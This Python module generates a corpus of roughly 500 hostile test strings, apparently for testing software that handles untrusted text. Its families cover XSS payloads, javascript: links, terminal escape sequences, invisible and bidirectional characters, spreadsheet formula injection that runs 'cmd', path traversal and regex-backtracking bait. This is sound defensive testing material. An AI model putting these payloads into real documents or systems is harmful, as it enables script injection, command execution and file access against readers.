"""Texts that somebody may put into a document to harm whoever reads it: some 500, in families.

Each family is harmless as text; its docstring says what it would do where it is taken for code. What cannot be made by
a rule stands in `texts/FAMILY.jsonl`, a JSON string a line.
"""

from __future__ import annotations

import json
from collections.abc import Callable, Iterator, Mapping
from itertools import product
from pathlib import Path
from types import MappingProxyType

MARK = "pwned7f3"
"""What every attack would show, run, fetch or write, so that a trace of it is found by one search."""
UNSTORABLE = ("\x00", "a\x00b", "\ud800", "54 \udfff boats", "\udcff")
"""What no database keeps: a NUL, and halves of surrogate pairs. It is refused, with a sentence."""
_TEXTS = Path(__file__).parent / "texts"
_CALLS = (f"alert('{MARK}')", f"fetch('//{MARK}.invalid')", f"document.title='{MARK}'")
_HANDLERS = ("onerror", "onload", "onmouseover", "onfocus", "ontoggle", "onanimationstart")
_CODES = (
    "[2J", "[H", "[31m", "[8m", "[?1049h", "[6n", "[5i", "[20t", "[1A", "[999D", "c", "P+q", "_", "^", "]0;", "]2;",
    "]52;c;", "]8;;http://", "]1337;File=", "]4;1;?", "#8", "(0", "N", "%G",
)  # fmt: skip
_HIDDEN = (
    "\u202a", "\u202b", "\u202c", "\u202d", "\u202e", "\u2066", "\u2067", "\u2068", "\u2069", "\u200e", "\u200f",
    "\u061c", "\u200b", "\u200c", "\u200d", "\u2060", "\ufeff", "\u00ad", "\u034f", "\u180e", "\u3164", "\uffa0",
    "\u2028", "\u2029", "\u0085", "\U000e0041", "\ufe0f", "\u115f", "\u17b5", "\ufff9", "\ufffc", "\ufffe", "\ue000",
    "\U0010ffff",
)  # fmt: skip
PIECES = (
    "a", " ", "\t", ".", ",", "(", ")", "[", "]", "«", '"', "'", "’", "-", "–", "1", "1,", "1.", "1 ", "A. ", "a.b.",
    "de ", "et ", "and ", "Ibid. ", "op. cit. ", "M. ", "p. ", "[^1]", "http://", "www.", "10.1000/", "@", "#", "*",
    "_", "`", "|", "<", "&", "&#", "\\", "\\{", "{", "}", "$", "%", "=", "\n", "\r", "\n- ", "\n1. ",
)  # fmt: skip


def _html() -> Iterator[str]:
    """Run a script, fetch an address, or paint over the page."""
    for call in _CALLS:
        yield f"<script>{call}</script>"
        yield f"</script><script>{call}</script>"
        yield f"'\"><script>{call}//"
        yield f"<img src=x onerror={call}>"
        yield f"<svg onload={call}>"
        yield f"<svg><script>{call}</script></svg>"
        yield f"<math><mtext></p><style><img src=x onerror={call}>"
        yield f'<a href="javascript:{call}">54 boats</a>'
        yield f"<iframe srcdoc='<script>{call}</script>'></iframe>"
        yield f"--><script>{call}</script><!--"
        yield f"]]><script>{call}</script>"
        yield f"</title></style></textarea></noscript></template><script>{call}</script>"
    for handler, quote in product(_HANDLERS, ('"', "'", "")):
        yield f"x{quote} {handler}={quote}alert(1){quote} autofocus tabindex=1 data-x={quote}{MARK}"
    yield from _written("html")


def _links() -> Iterator[str]:
    """Run or fetch when followed, or look like another address."""
    schemes = (
        "javascript", "JaVaScRiPt", "java\tscript", "java\nscript", "\x01javascript", "vbscript", "data", "file",
        "blob", "view-source", "ms-excel", "smb",
    )  # fmt: skip
    yield from (f"{scheme}:alert('{MARK}')" for scheme in schemes)
    yield from _written("links")


def _markdown() -> Iterator[str]:
    """Become a link, a picture that fetches, a heading, a table, code, HTML, or a command of a build service."""
    yield from _written("markdown")


def _terminal() -> Iterator[str]:
    """Move the cursor, change the title, paste, clear, colour or ring."""
    yield from (f"\x1b{code}{MARK}\x07" for code in _CODES)
    yield from (f"\x9b2J{MARK}", f"\x9d0;{MARK}\x9c", f"{MARK}\x08\x08\x08", f"{MARK}\r54", f"{MARK}\x0b\x0c")
    yield from (f"\x07{MARK}", f"\x7f{MARK}", f"\x0e{MARK}\x0f", f"\x05{MARK}", f"\x1b\x1b[{MARK}", f"\x90{MARK}\x9c")


def _directions() -> Iterator[str]:
    """Show in another order than they stand, or be there and not be seen."""
    yield from (f"54{sign}{MARK}{sign}boats" for sign in _HIDDEN)
    yield "e" + "\u0301" * 300 + MARK
    yield "".join(f"{sign}\u0334\u0337\u0338" for sign in MARK)
    yield f"𝟓𝟒 ｂｏａｔｓ ５４ ٥٤ {MARK}"


def _formulas() -> Iterator[str]:
    """Be reckoned, or run a program, by whatever opens a table."""
    for sign in ("=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "'=", '"=', ";=", ",=", "\ufeff=", "|="):
        yield f"{sign}cmd|' /C {MARK}'!A0"
    yield from _written("formulas")


def _typesetting() -> Iterator[str]:
    """Read or write files, run a program, or never end, where it is taken for TeX, typst, BibTeX, RIS, XML or roff."""
    yield from _written("typesetting")


def _paths() -> Iterator[str]:
    """Write or read somewhere else."""
    for up in ("../", "..\\", "%2e%2e/", "..%2f", "....//", "..;/", "/", "\\", "C:\\", "\\\\?\\", "file:///", "~/"):
        yield f"{up * 3}etc/{MARK}"
    yield from _written("paths")


def _databases() -> Iterator[str]:
    """End a statement and begin another, match everything, or be a command of the search."""
    yield from _written("databases")


def _templates() -> Iterator[str]:
    """Name something inside the program where they are taken for a format, or for an object."""
    yield from _written("templates")


def _numbers() -> Iterator[str]:
    """Be numbers so large, long or odd that reckoning with them takes for ever or fails."""
    yield from _written("numbers")


def _bait() -> Iterator[str]:
    """Make a careless regular expression try every way there is."""
    yield from (piece * (600 // len(piece)) + "!" for piece in PIECES)


def _written(family: str) -> Iterator[str]:
    for line in (_TEXTS / f"{family}.jsonl").read_text(encoding="ascii").splitlines():
        yield json.loads(line)


FAMILIES: Mapping[str, Callable[[], Iterator[str]]] = MappingProxyType(
    {
        "html": _html,
        "links": _links,
        "markdown": _markdown,
        "terminal": _terminal,
        "directions": _directions,
        "formulas": _formulas,
        "typesetting": _typesetting,
        "paths": _paths,
        "databases": _databases,
        "templates": _templates,
        "numbers": _numbers,
        "bait": _bait,
    }
)


def all_attacks() -> Mapping[str, str]:
    """Give every attack by its family and number: `html-3`."""
    return {f"{name}-{number}": text for name, made in FAMILIES.items() for number, text in enumerate(made(), 1)}
